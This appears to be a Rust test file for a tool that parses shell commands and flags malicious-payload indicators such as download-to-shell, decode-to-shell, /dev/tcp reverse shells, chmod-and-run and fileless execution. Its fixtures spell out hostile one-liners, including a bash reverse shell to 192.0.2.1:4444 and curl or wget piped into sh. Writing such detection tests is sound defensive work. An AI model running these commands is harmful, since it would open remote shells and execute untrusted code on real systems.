use super::*;

fn argv(a: &[&str]) -> Vec<String> {
    a.iter().map(|s| (*s).to_owned()).collect()
}

fn shown(script: &str) -> Vec<String> {
    Payload::parse(script)
        .commands
        .iter()
        .map(Command::display)
        .collect()
}

fn found(script: &str) -> Vec<&'static str> {
    payload_indicators(&Payload::parse(script))
        .into_iter()
        .map(Indicator::as_str)
        .collect()
}

#[test]
fn the_script_follows_c_and_an_end_of_options() {
    assert_eq!(script_of(&argv(&["sh", "-c", "id"])), Some("id"));
    assert_eq!(script_of(&argv(&["sh", "-c", "--", "id"])), Some("id"));
    assert_eq!(script_of(&argv(&["bash", "-lc", "id"])), Some("id"));
    assert_eq!(script_of(&argv(&["sh", "-e", "-c", "id", "x"])), Some("id"));
    assert_eq!(script_of(&argv(&["sh", "script.sh"])), None);
    assert_eq!(script_of(&argv(&["sh", "-c"])), None);
    assert_eq!(script_of(&argv(&["sh", "--", "-c"])), None);
    let long = argv(&["sh", "-c", "--", "/usr/sbin/sendmail -t -i"]);
    assert_eq!(
        without_end_of_options(&long).as_ref(),
        argv(&["sh", "-c", "/usr/sbin/sendmail -t -i"])
    );
    let plain = argv(&["sh", "-c", "id", "--"]);
    assert_eq!(without_end_of_options(&plain).as_ref(), plain.as_slice());
    let not_c = argv(&["sh", "-e", "--", "x"]);
    assert_eq!(without_end_of_options(&not_c).as_ref(), not_c.as_slice());
}

#[test]
fn operators_split_commands_outside_quotes() {
    assert_eq!(
        shown("curl -s http://x/a.sh | sh"),
        ["curl -s http://x/a.sh", "sh"]
    );
    assert_eq!(shown("echo 'a | b; c' && id"), ["echo a | b; c", "id"]);
    assert_eq!(shown("a;b\nc || d & e"), ["a", "b", "c", "d", "e"]);
    assert_eq!(
        shown("cd /tmp&&wget -q http://x/k;chmod +x k;./k"),
        ["cd /tmp", "wget -q http://x/k", "chmod +x k", "./k"]
    );
    assert_eq!(shown("echo \"$(id; uname)\""), ["echo $(id; uname)"]);
    assert_eq!(shown("(id) | nc x 1 # note | sh"), ["id", "nc x 1"]);
    assert_eq!(shown("LANG=C FOO='a b' ls -l"), ["ls -l"]);
    let p = Payload::parse("(id) | nc x 1");
    assert_eq!(p.commands[1].joint, Joint::Pipe);
    assert!(p.complete);
    assert!(!Payload::parse("echo 'open").complete);
}

#[test]
fn redirections_are_lifted_out_of_the_words() {
    let p = Payload::parse("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1");
    let c = &p.commands[0];
    assert_eq!(c.words, ["bash", "-i"]);
    let r: Vec<(&str, &str)> = c
        .redirects
        .iter()
        .map(|r| (r.op.as_str(), r.target.as_str()))
        .collect();
    assert_eq!(r, [(">&", "/dev/tcp/192.0.2.1/4444"), ("0>&", "1")]);
    let p = Payload::parse("convert a.png b.jpg 2>/dev/null >out.txt");
    assert_eq!(p.commands[0].words, ["convert", "a.png", "b.jpg"]);
    assert_eq!(p.commands[0].redirects.len(), 2);
    // Quoted, an operator is text.
    assert_eq!(shown("echo '>' x2>y"), ["echo > x2 >y"]);
}

#[test]
fn launchers_are_seen_through() {
    let p = Payload::parse("exec env -i PATH=/bin timeout 5 busybox wget http://x");
    assert_eq!(p.commands[0].program(), Some("wget"));
    assert_eq!(p.commands[0].args(), ["http://x"]);
}

#[test]
fn indicators_come_from_the_commands() {
    assert_eq!(
        found("curl -fsSL http://x/i.sh | sh"),
        ["download-to-shell"]
    );
    assert_eq!(
        found("wget -qO- http://x | tee /dev/null | bash -s"),
        ["download-to-shell"]
    );
    assert_eq!(
        found("bash -c \"$(curl -s http://x)\""),
        ["download-to-shell"]
    );
    assert_eq!(found("bash <(wget -O- http://x)"), ["download-to-shell"]);
    assert_eq!(found("echo aWQ= | base64 -d | sh"), ["decode-to-shell"]);
    assert_eq!(found("echo x | xxd -r -p | python3"), ["decode-to-shell"]);
    assert_eq!(
        found("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        ["interactive-shell", "dev-tcp"]
    );
    assert_eq!(found("exec 5<>/dev/udp/192.0.2.1/53"), ["dev-tcp"]);
    assert_eq!(
        found("nohup bash -c 'sh -i >& /dev/tcp/192.0.2.1/80 0>&1' &"),
        ["interactive-shell", "dev-tcp"]
    );
    assert_eq!(
        found("cd /tmp; wget http://x/k; chmod +x k; ./k"),
        ["chmod-and-run"]
    );
    assert_eq!(
        found("chmod 755 /tmp/.x && /tmp/.x -d"),
        ["chmod-and-run", "temp-exec"]
    );
    assert_eq!(found("chmod 644 k; ./k"), Vec::<&str>::new());
    // Words, not substrings: none of these run anything.
    for benign in [
        "echo 'curl x | sh'",
        "grep -r /dev/tcp/ /var/log/app.log.d",
        "/usr/sbin/sendmail -t -i",
        "convert /tmp/upload_1.png -resize 50% /tmp/thumb_1.png",
        "curl -s http://127.0.0.1/health | grep ok",
        "base64 -d < in.b64 > out.bin",
        "chmod +x deploy.sh",
    ] {
        assert_eq!(found(benign), Vec::<&str>::new(), "{benign}");
    }
}

#[test]
fn exec_indicators_from_path_and_argv() {
    let of = |exe: &str, a: &[&str], shell: bool| -> Vec<&'static str> {
        exec_indicators(exe, &argv(a), shell)
            .into_iter()
            .map(Indicator::as_str)
            .collect()
    };
    assert_eq!(of("/tmp/.x/kworker", &["kworker"], false), ["temp-exec"]);
    assert_eq!(of("/dev/shm/a", &["a"], false), ["temp-exec"]);
    assert_eq!(of("/run/user/1000/x", &["x"], false), ["temp-exec"]);
    assert_eq!(of("/dev/fd/3", &["x"], false), ["fileless"]);
    assert_eq!(of("/proc/self/fd/4", &["x"], false), ["fileless"]);
    assert_eq!(of("/memfd:x (deleted)", &["x"], false), ["fileless"]);
    assert_eq!(of("/bin/sh", &["sh", "-i"], true), ["interactive-shell"]);
    assert_eq!(
        of("/bin/bash", &["bash", "-li"], true),
        ["interactive-shell"]
    );
    assert_eq!(
        of("/bin/sh", &["sh", "-c", "x -i"], true),
        Vec::<&str>::new()
    );
    assert_eq!(of("/usr/bin/ls", &["ls", "-i"], false), Vec::<&str>::new());
    assert_eq!(of("/usr/bin/tmp/x", &["x"], false), Vec::<&str>::new());
}
